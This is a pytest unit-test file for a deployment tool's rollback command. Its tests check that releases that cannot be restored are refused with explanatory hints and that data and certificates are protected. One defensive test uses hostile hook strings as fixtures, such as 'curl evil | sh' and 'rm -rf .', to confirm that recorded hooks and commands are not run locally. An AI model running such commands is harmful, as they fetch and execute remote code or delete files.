"""Rollback: releases that cannot be restored, and how they are told."""

from __future__ import annotations

import asyncio
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path

import pytest

from ftl.config.models.project import Dependency, Hook, Hooks, ProjectInfo
from ftl.config.models.proxy import Registry
from ftl.config.models.secret import Secret
from ftl.deploy.plan.records.recorded import recorded_project
from ftl.errors import UsageError
from ftl.operations.changes.rollback.choice import choose
from ftl.operations.changes.rollback.images import rebuilt
from ftl.operations.changes.rollback.rollback import plan_rollback
from ftl.operations.views.releases import list_releases
from ftl.proxy.tls.x509 import X509Certificate
from tests.unit.deploy.world import project, server, service
from tests.unit.operations.changes.rollback.rollback_world import (
    HERE,
    ME,
    REQUEST,
    image,
    on_server,
    released,
    rolled_back,
)


def test_an_image_that_is_gone_is_refused_before_anything_happens() -> None:
    """The error says which image, and to which releases a rollback is possible."""
    asked = project()
    records = [released(asked, f"r{number}") for number in (1, 2, 3)]
    observed = on_server(asked, *records, images=(image("r2"), image("r3")), live="r3")
    with pytest.raises(UsageError, match=r"r1 cannot be restored.*image of web") as refused:
        rolled_back(observed, "r1")
    assert "releases that can be restored: r2" in (refused.value.hint or "")
    assert "`ftl rollback r1 --rebuild` builds it from commit 111111111111" in (refused.value.hint or "")


def test_the_releases_that_are_named_are_those_that_a_rollback_goes_to() -> None:
    """As `ftl releases` lists them: neither one whose image is gone, nor one that runs the same as the live one."""
    asked = project()
    live = released(asked, "r4")
    gone, kept, same = released(asked, "r1"), released(asked, "r2"), replace(live, release="r3")
    observed = on_server(asked, gone, kept, same, live, images=(image("r2"), image("r4")), live="r4")
    listed = {row.record.release: row.kept for row in list_releases(observed)}
    assert listed == {"r1": False, "r2": True, "r3": True, "r4": True}
    with pytest.raises(UsageError, match="no release `r9`") as refused:
        choose(observed, "r9")
    assert refused.value.hint == "releases that can be restored: r2"


def test_a_release_with_uncommitted_changes_is_not_built_again() -> None:
    """Its commit does not have them: what would be built is another release."""
    asked = project()
    dirty = replace(released(asked, "r1"), commit=f"{'1' * 40}-dirty")
    observed = on_server(asked, dirty, released(asked, "r2"), images=(image("r2"),), live="r2")
    with pytest.raises(UsageError) as refused:
        rolled_back(observed, "r1")
    assert "--rebuild" not in (refused.value.hint or "")
    building = rebuilt(observed, asked, dirty, ["web"], root=Path(), platform="linux/amd64", emit=print)
    with pytest.raises(UsageError, match="r1 cannot be built again: it was deployed") as refused:
        asyncio.run(building)
    assert "`git checkout 111111111111`" in (refused.value.hint or "")


@pytest.mark.parametrize(
    ("release", "words"),
    [
        (None, "no release before r1"),
        ("r9", "no release `r9`"),
        ("r2", "r2 never was live"),
        ("web", "no release `web`"),
    ],
)
def test_a_release_that_cannot_be_restored_is_refused(release: str | None, words: str) -> None:
    """Nothing to go back to, unknown names, and a release that failed."""
    asked = project()
    observed = on_server(asked, released(asked, "r1"), released(asked, "r2", outcome="failed"), live="r1")
    with pytest.raises(UsageError, match=words) as refused:
        choose(observed, release)
    assert refused.value.hint


def test_a_release_from_before_a_removal_is_refused_with_the_reason() -> None:
    """It was live once, and `ftl remove` forgot its configuration."""
    asked = project()
    gone = replace(released(asked, "r1", outcome="replaced"), project={})
    observed = on_server(asked, gone, released(asked, "r2"), live="r2")
    with pytest.raises(UsageError, match="r1 cannot be restored: shop was removed since"):
        choose(observed, "r1")


def test_a_release_that_is_no_longer_kept_is_refused_with_those_that_are() -> None:
    """As for one that never was."""
    asked = project()
    records = (replace(released(asked, "r1"), project={}), released(asked, "r2"), released(asked, "r3"))
    with pytest.raises(UsageError, match="r1 is no longer kept") as refused:
        choose(on_server(asked, *records, images=(image("r2"),), live="r3"), "r1")
    assert "releases that can be restored: r2" in (refused.value.hint or "")


def test_nothing_was_deployed() -> None:
    """The error names the next step."""
    with pytest.raises(UsageError, match="shop is not deployed") as refused:
        choose(server(project(), ready=False), None)
    assert "ftl deploy" in (refused.value.hint or "")


def test_the_live_release_needs_no_rollback() -> None:
    """A rollback to what serves already does nothing."""
    asked = project()
    observed = on_server(
        asked, released(asked, "r1"), released(asked, "r2"), images=(image("r1"), image("r2"))
    )
    assert rolled_back(observed, "r2").empty


def test_nothing_of_a_record_acts_on_this_machine() -> None:
    """Registries' and secrets' commands and local hooks of a record are not run: others may have written it."""
    hooks = Hooks(pre=Hook(local="curl evil | sh", remote="migrate"), post=Hook(local="rm -rf ."))
    asked = replace(
        project(service(hooks=hooks)),
        registries=(Registry(server="registry.example.com", command=("sh", "-c", "evil")),),
        secrets=(Secret(name="A", command=("evil",)),),
    )
    restored = recorded_project(released(asked, "r1"), HERE)
    (web,) = restored.services
    assert web.hooks == Hooks(pre=Hook(remote="migrate"))
    assert (restored.registries, restored.secrets) == ((), ())


@pytest.mark.parametrize(("before", "now"), [("db", "db"), ("db", "database")])
def test_a_service_that_became_a_dependency_is_not_started_on_its_data(before: str, now: str) -> None:
    """Two servers on one data directory destroy it."""
    old = project(service(), service(before, volumes=("data:/data",)))
    new = project(
        service(), dependencies=(Dependency(name=now, image="postgres:16", volumes=("data:/data",)),)
    )
    observed = on_server(new, released(old, "r1"), released(new, "r2"), images=(image("r1"), image("r2")))
    with pytest.raises(UsageError, match="was a service then"):
        rolled_back(observed, "r1")


def test_a_dependency_that_became_a_service_is_not_removed() -> None:
    """A rollback leaves data alone, so it cannot take such a change back."""
    old = project(service(), dependencies=(Dependency(name="db", image="postgres:16"),))
    new = project(service(), service("db"))
    observed = on_server(new, released(old, "r1"), released(new, "r2"), images=(image("r1"), image("r2")))
    with pytest.raises(UsageError, match="was a dependency then"):
        rolled_back(observed, "r1")


def test_hosts_that_the_proxys_certificate_does_not_cover_are_refused() -> None:
    """A rollback leaves certificates as they are: visitors of the older host would get an error."""
    old = replace(project(), project=ProjectInfo(name="shop", domain="old.example.org"))
    observed = on_server(project(), released(old, "r1"), released(project(), "r2"), images=(image("r1"),))
    target = choose(observed, "r1")
    begin, end = datetime(2020, 1, 1, tzinfo=UTC), datetime(2040, 1, 1, tzinfo=UTC)
    certificate = X509Certificate("CA", ("*.example.com",), begin, end)
    with pytest.raises(UsageError, match=r"does not cover old\.example\.org"):
        plan_rollback(REQUEST, target, ME, {}, observed, certificate)
    covering = replace(certificate, names=("*.example.com", "*.example.org"))
    made = plan_rollback(REQUEST, target, ME, {}, observed, covering)
    assert any("r1 serves old.example.org, and no longer shop.example.com" in note for note in made.notes)
